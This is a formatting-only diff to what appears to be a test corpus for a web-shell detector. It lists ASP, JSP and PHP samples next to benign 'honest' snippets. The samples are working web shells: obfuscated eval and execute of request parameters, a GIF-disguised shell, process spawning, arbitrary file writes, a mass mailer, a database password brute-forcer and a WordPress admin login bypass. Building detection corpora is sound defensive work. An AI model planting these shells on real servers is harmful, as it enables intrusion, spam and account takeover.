@@ -11,13 +11,16 @@ export const SERVERS: readonly Technique[] = [
       '<% Set o = CreateObject("Scrip" & "ting.FileSys" & "temObject")\nSet f = o.CreateTextFile(Request("p"))\nf.Write Request("t") %>',
       '<% k = chr(101) & chr(118) & chr(97) & chr(108)\nexecute(k & " " & request("q")) %>',
       '<% execute(unescape("eval%20request(%22a%22)")) %>',
-      "<% c = Request(\"c\")\neval c 'nothing\n%>",
+      '<% c = Request("c")\neval c \'nothing\n%>',
       'GIF89a<% execute(request("x")) %>',
       '<% Set p = GetObject("winmgmts:root/cimv2:Win32_Process")\np.Create Request("c"), Null, Null, n %>',
       '<% Set d = CreateObject("ADODB.Connection")\nd.Open Request("to")\nSet r = d.Execute(Request("q")) %>',
       '<% For Each v In Request.ServerVariables\nResponse.Write v & Request.ServerVariables(v)\nNext %>',
     ],
-    honest: ['<% Response.Write "Hello " & Server.HTMLEncode(Request("name")) %>', '<% Response.Redirect "/index.php" %>'],
+    honest: [
+      '<% Response.Write "Hello " & Server.HTMLEncode(Request("name")) %>',
+      '<% Response.Redirect "/index.php" %>',
+    ],
   },
   {
     name: 'ASP.NET tools',
@@ -42,7 +45,10 @@ export const SERVERS: readonly Technique[] = [
       '<% \\u0052untime.get\\u0052untime().exec(request.getParameter("c")); %>',
       '<jsp:scriptlet>&#82;untime.get&#82;untime().exec(request.getParameter("c"));</jsp:scriptlet>',
     ],
-    honest: ['<p><%= request.getContextPath() %></p>', '<%@ page contentType="text/html" %><% int n = 3; out.print(n); %>'],
+    honest: [
+      '<p><%= request.getContextPath() %></p>',
+      '<%@ page contentType="text/html" %><% int n = 3; out.print(n); %>',
+    ],
   },
   {
     name: 'scripts that show and listen',
@@ -82,17 +88,27 @@ export const SERVERS: readonly Technique[] = [
       ),
     ],
     honest: [
-      php(`function write($s) { fwrite(STDOUT, $s); }\nfunction read() { return fgets(STDIN); }\nwrite(chr(65 & 0xff));`),
+      php(
+        `function write($s) { fwrite(STDOUT, $s); }\nfunction read() { return fgets(STDIN); }\nwrite(chr(65 & 0xff));`,
+      ),
     ],
   },
   {
     name: 'around the limits of files',
     severity: 'suspicious',
     samples: [
-      php(`$t = tempnam('.', 'c'); copy('compress.zlib://' . $_POST['file'], $t); echo htmlspecialchars(file_get_contents($t));`),
-      php(`$d = new PDO($_POST['dsn'], $_POST['user'], $_POST['pass']); foreach ($d->query($_POST['q']) as $r) print_r($r);`),
-      php(`foreach (explode("\\n", $_POST['to']) as $to) mail(trim($to), $_POST['subject'], stripslashes($_POST['text']));`),
-      php(`foreach (explode("\\n", $_POST['users']) as $u) foreach (explode("\\n", $_POST['words']) as $w) if (@mysql_connect('localhost', trim($u), trim($w))) echo "$u $w";`),
+      php(
+        `$t = tempnam('.', 'c'); copy('compress.zlib://' . $_POST['file'], $t); echo htmlspecialchars(file_get_contents($t));`,
+      ),
+      php(
+        `$d = new PDO($_POST['dsn'], $_POST['user'], $_POST['pass']); foreach ($d->query($_POST['q']) as $r) print_r($r);`,
+      ),
+      php(
+        `foreach (explode("\\n", $_POST['to']) as $to) mail(trim($to), $_POST['subject'], stripslashes($_POST['text']));`,
+      ),
+      php(
+        `foreach (explode("\\n", $_POST['users']) as $u) foreach (explode("\\n", $_POST['words']) as $w) if (@mysql_connect('localhost', trim($u), trim($w))) echo "$u $w";`,
+      ),
       php(`require '../wp-load.php'; $a = get_users(array('role' => 'administrator')); wp_set_auth_cookie($a[0]->ID);`),
       php(`$z = new ZipArchive; $z->open($_FILES['z']['tmp_name']); $z->extractTo('.');`),
       php(`$h = fopen(dirname(__FILE__) . '/' . $_GET['n'], 'w'); fwrite($h, $_POST['c']);`),
